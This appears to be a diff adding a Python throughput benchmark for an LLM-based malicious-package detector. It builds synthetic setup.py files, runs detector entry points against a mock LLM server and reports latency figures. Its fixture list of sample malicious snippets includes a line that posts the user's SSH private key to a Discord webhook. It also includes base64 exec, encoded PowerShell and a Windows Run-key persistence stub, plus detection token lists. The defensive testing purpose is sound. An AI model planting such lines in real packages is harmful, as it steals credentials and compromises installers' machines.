@@ -0,0 +1,167 @@
+import os
+import sys
+import json
+import random
+import argparse
+import subprocess
+from pathlib import Path
+
+import mock_llm_server
+from drive_entry_point import ENTRY_POINTS
+
+
+BENCHMARK_DIR = Path(__file__).resolve().parent
+
+MALICIOUS_SNIPPETS = [
+    "import os, base64\nexec(base64.b64decode('aW1wb3J0IHNvY2tldA=='))\n",
+    "import requests\nrequests.post('https://discord.com/api/webhooks/1234/abcd', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
+    "import subprocess\nsubprocess.Popen(['powershell', '-enc', 'SQBFAFgA'], shell=True)\n",
+    "import winreg\nkey = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n",
+]
+BENIGN_SNIPPETS = [
+    "from setuptools import setup, find_packages\n",
+    "import pathlib\nlong_description = (pathlib.Path(__file__).parent / 'README.md').read_text()\n",
+    "install_requires = ['requests>=2.0', 'click']\n",
+]
+KB_COLLECTIONS = {
+    "malware.yara_rules2": "rule {name} {{ strings: $a = \"{token}\" condition: $a }}",
+    "github_advisories": "Advisory {name}: malicious package exfiltrates data using {token}.",
+    "malicious_setup_py": "# sample {name}\nimport os\n{token}\n",
+}
+KB_TOKENS = ["b64decode", "discord.com/api/webhooks", "powershell -enc", "CurrentVersion\\Run",
+             "socket.connect", "urllib.request.urlopen", "os.system", "getpass"]
+
+
+def synthetic_package(index: int, rng: random.Random) -> dict:
+    malicious = rng.random() < 0.5
+    lines = ["from setuptools import setup\n"] + [rng.choice(BENIGN_SNIPPETS) for _ in range(rng.randint(2, 6))]
+    if malicious:
+        lines.insert(rng.randint(1, len(lines)), rng.choice(MALICIOUS_SNIPPETS))
+    lines.append(f"setup(name='bench-package-{index}', version='0.{index}')\n")
+    setup_py = "".join(lines)
+    file_list = ["setup.py", "PKG-INFO", f"bench_package_{index}/__init__.py"]
+    return {
+        "package_name": f"bench-package-{index}",
+        "setup.py": setup_py,
+        "file_list": file_list,
+        "label": int(malicious),
+        "textual_description": f"The setup.py of bench-package-{index} runs setup() "
+                               + ("after executing an encoded payload." if malicious else "with static metadata."),
+        "files": {name: {"content": setup_py if name == "setup.py" else "", "file path": name} for name in file_list},
+    }
+
+
+def write_fixtures(work_dir: Path, packages: int, seed: int):
+    """
+    Writes the synthetic dataset and the local knowledge-base collections.
+    """
+    rng = random.Random(seed)
+    dataset = work_dir / "packages.jsonl"
+    with open(dataset, "w", encoding="utf-8") as file:
+        for index in range(packages):
+            file.write(json.dumps(synthetic_package(index, rng)) + "\n")
+
+    kb_dir = work_dir / "local_kb"
+    kb_dir.mkdir(parents=True, exist_ok=True)
+    for collection, template in KB_COLLECTIONS.items():
+        with open(kb_dir / f"{collection}.jsonl", "w", encoding="utf-8") as file:
+            for index in range(200):
+                token = KB_TOKENS[index % len(KB_TOKENS)]
+                file.write(json.dumps({"page_content": template.format(name=f"doc_{index}", token=token),
+                                       "metadata": {"id": index}}) + "\n")
+    return dataset, kb_dir
+
+
+def percentile(values: list, q: float) -> float:
+    ordered = sorted(values)
+    if not ordered:
+        return float("nan")
+    return ordered[min(len(ordered) - 1, int(q * len(ordered)))]
+
+
+def run_entry_point(entry_point: str, args, dataset: Path, env: dict, state) -> dict:
+    results_dir = Path(args.work_dir) / "results"
+    results_dir.mkdir(parents=True, exist_ok=True)
+    result_file = results_dir / f"{entry_point}.csv"
+    result_file.unlink(missing_ok=True)
+    report_file = results_dir / f"{entry_point}_report.json"
+
+    before = dict(state.counters)
+    completed = subprocess.run(
+        [sys.executable, str(BENCHMARK_DIR / "drive_entry_point.py"), entry_point, "--dataset", str(dataset),
+         "--result_file", str(result_file), "--report", str(report_file), "--model", args.model,
+         "--entry_args", args.entry_args],
+        env=env, capture_output=not args.verbose, text=True,
+    )
+    if completed.returncode != 0:
+        print(f"❌ {entry_point} failed:\n{completed.stderr}")
+        return None
+    report = json.loads(report_file.read_text(encoding="utf-8"))
+    calls = {key: state.counters[key] - before[key] for key in before}
+
+    latencies = report["latencies"]
+    return {
+        "entry_point": entry_point,
+        "packages": report["packages"],
+        "packages_per_sec": report["packages"] / report["wall_seconds"] if report["wall_seconds"] else 0.0,
+        "p50": percentile(latencies, 0.50),
+        "p95": percentile(latencies, 0.95),
+        "p99": percentile(latencies, 0.99),
+        "calls_per_package": (calls["chat"] + calls["errors"] + calls["rate_limited"]) / max(1, report["packages"]),
+        "embeddings_per_package": calls["embeddings"] / max(1, report["packages"]),
+        "injected_failures": calls["errors"] + calls["rate_limited"],
+    }
+
+
+def print_report(rows: list):
+    header = f"{'entry point':<22}{'pkgs':>6}{'pkg/s':>9}{'p50 s':>9}{'p95 s':>9}{'p99 s':>9}{'calls/pkg':>11}{'failures':>10}"
+    print(header)
+    print("-" * len(header))
+    for row in rows:
+        print(f"{row['entry_point']:<22}{row['packages']:>6}{row['packages_per_sec']:>9.2f}{row['p50']:>9.3f}"
+              f"{row['p95']:>9.3f}{row['p99']:>9.3f}{row['calls_per_package']:>11.2f}{row['injected_failures']:>10}")
+
+
+def main():
+    parser = argparse.ArgumentParser(description="End-to-end throughput benchmark of the experiments against a mock LLM.")
+    parser.add_argument("--entry_points", nargs="+", choices=sorted(ENTRY_POINTS), default=sorted(ENTRY_POINTS))
+    parser.add_argument("--packages", type=int, default=50, help="Number of synthetic packages per entry point.")
+    parser.add_argument("--model", choices=["gpt", "llama"], default="llama")
+    parser.add_argument("--work_dir", type=str, default="benchmark_runs")
+    parser.add_argument("--entry_args", type=str, default="",
+                        help="Extra arguments passed to every entry point, e.g. \"--stream --stream_explanation cancel\".")
+    parser.add_argument("--output", type=str, help="Optional JSON file for the report.")
+    parser.add_argument("--verbose", action="store_true", help="Show the output of the entry points.")
+    mock_llm_server.add_arguments(parser)
+    args = parser.parse_args()
+
+    work_dir = Path(args.work_dir).resolve()
+    work_dir.mkdir(parents=True, exist_ok=True)
+    args.work_dir = str(work_dir)
+    dataset, kb_dir = write_fixtures(work_dir, args.packages, args.seed or 0)
+
+    state = mock_llm_server.state_from_args(args)
+    server = mock_llm_server.start_server(state)
+    base_url = f"http://127.0.0.1:{server.server_port}"
+    env = dict(os.environ,
+               OPENAI_API_KEY="mock", OPENAI_BASE_URL=f"{base_url}/v1",
+               HUGGING_FACE_KEY="mock", HF_INFERENCE_BASE_URL=base_url,
+               LLAMA_MODEL="meta-llama/Llama-3.1-8B-Instruct",
+               MAL_LLM_VECTORSTORE="local", MAL_LLM_LOCAL_KB=str(kb_dir))
+
+    rows = []
+    for entry_point in args.entry_points:
+        print(f"🚀 Benchmarking {entry_point} on {args.packages} packages")
+        row = run_entry_point(entry_point, args, dataset, env, state)
+        if row:
+            rows.append(row)
+    server.shutdown()
+
+    print_report(rows)
+    if args.output:
+        with open(args.output, "w", encoding="utf-8") as file:
+            json.dump(rows, file, indent=2)
+
+
+if __name__ == "__main__":
+    main()